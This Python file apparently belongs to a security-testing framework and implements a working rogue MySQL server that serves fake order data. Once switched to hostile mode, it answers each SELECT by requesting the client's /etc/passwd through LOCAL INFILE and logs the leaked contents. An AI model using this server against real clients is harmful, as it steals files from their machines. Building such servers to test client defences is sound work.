"""A MySQL server that, once hostile, responds to any SELECT by requesting a client's file.

The client/server protocol lets a server answer COM_QUERY with 0xFB and a file name; a client that allows LOCAL INFILE
sends the file, for any statement.
"""

import struct
from collections.abc import Sequence

from backwatch.attack.protocols.server import HostileServer, ServerSession

VERSION = b"8.0.36-demo"
WANTED = b"/etc/passwd"
SALT = b"abcdefghijklmnopqrst"
"""Salt of all logins. It is constant, since on loopback no attacker can replay a response."""
_LONG_PASSWORD, _WITH_DB, _PROTOCOL_41, _SSL, _SECURE, _PLUGIN_AUTH = 1, 8, 0x200, 0x800, 0x8000, 0x80000
_CAPABILITIES = _LONG_PASSWORD | _WITH_DB | _PROTOCOL_41 | _SSL | _SECURE | _PLUGIN_AUTH | 0x80
_QUIT, _QUERY, _PING = 1, 3, 14
_STRING = 0xFD
_UTF8MB4 = 45


class MySQL(HostileServer):
    """Returns orders; once hostile, requests a file."""

    name = "mysql"
    attack = "asks for a file of the client's in answer to a SELECT"
    reference = "CVE-2025-62611; https://github.com/rmb122/rogue_mysql_server"
    driver = "pymysql"
    rule = "local-file-request"

    rows = 12
    """Rows of a SELECT's result."""
    version = VERSION
    """Version that the server announces."""
    wanted = WANTED
    """File that the server requests."""

    plugin = b"mysql_native_password"
    """Authentication plugin for logins."""

    def serve(self, session: ServerSession) -> None:
        """Serve the handshake, TLS, the login, then statements."""
        wire = Packets(session)
        capabilities = _CAPABILITIES if self.offers_tls() else _CAPABILITIES & ~_SSL
        wire.send(
            b"\x0a" + self.version + b"\0" + struct.pack("<I", 7) + SALT[:8] + b"\0"
            + struct.pack("<HBHH", capabilities & 0xFFFF, _UTF8MB4, 2, capabilities >> 16)
            + bytes([21]) + bytes(10) + SALT[8:] + b"\0" + self.plugin + b"\0"
        )  # fmt: skip
        answer = wire.receive()
        if struct.unpack("<I", answer[:4])[0] & _SSL and len(answer) == 32:
            session.secure()
            answer = wire.receive()
        after_name = answer[32:].partition(b"\0")[2]
        self.log_in(wire, after_name[1 : 1 + after_name[0]])
        wire.send(OK)
        while True:
            wire.restart()
            command = wire.receive()
            if command[:1] == bytes([_QUIT]):
                return
            if command[:1] != bytes([_QUERY]):
                wire.send(OK)
            elif not self.answers(wire, command[1:]):
                self._answer(wire, command[1:])

    def offers_tls(self) -> bool:
        """Return whether the server agrees to TLS now."""
        return True

    def log_in(self, wire: "Packets", proof: bytes) -> None:
        """Accept any login.

        Args:
            wire: Channel for more questions.
            proof: The client's response to ``SALT`` by ``plugin``.
        """

    def answers(self, wire: "Packets", statement: bytes) -> bool:
        """Respond to a statement in a special way. Return ``False`` for the default response."""
        if self.hostile and statement.lstrip()[:6].upper() == b"SELECT":
            wire.send(b"\xfb" + self.wanted)
            while given := wire.receive():  # until an empty packet
                self.on_leak(given)
            wire.send(OK)
            return True
        return False

    def _answer(self, wire: "Packets", statement: bytes) -> None:
        if statement.lstrip()[:6].upper() == b"SELECT":
            wire.rows(("id", "customer", "total"), [(f"{i}", f"customer {i}", "9.90") for i in range(self.rows)])
        else:
            wire.send(OK)


OK = b"\x00\x00\x00" + struct.pack("<HH", 2, 0)
_EOF = b"\xfe" + struct.pack("<HH", 0, 2)


class Packets:
    """MySQL packets: length, sequence number, payload."""

    def __init__(self, session: ServerSession) -> None:
        self._session = session
        self._number = 0

    def restart(self) -> None:
        """Reset the sequence number, as a command begins."""
        self._number = 0

    def receive(self) -> bytes:
        """Return the next payload."""
        head = self._session.read(4)
        self._number = head[3] + 1
        return self._session.read(int.from_bytes(head[:3], "little"))

    def send(self, payload: bytes) -> None:
        """Send one packet."""
        self._session.send(len(payload).to_bytes(3, "little") + bytes([self._number & 0xFF]) + payload)
        self._number += 1

    def rows(self, columns: Sequence[str], rows: Sequence[Sequence[str]]) -> None:
        """Send a text result set."""
        self.send(bytes([len(columns)]))
        for column in columns:
            name = _text(column)
            self.send(
                _text("def") + _text("shop") + _text("orders") * 2 + name + name
                + b"\x0c" + struct.pack("<HIBHBH", _UTF8MB4, 255, _STRING, 0, 0, 0)
            )  # fmt: skip
        self.send(_EOF)
        for row in rows:
            self.send(b"".join(_text(value) for value in row))
        self.send(_EOF)


def _text(value: str) -> bytes:
    raw = value.encode()
    return bytes([len(raw)]) + raw
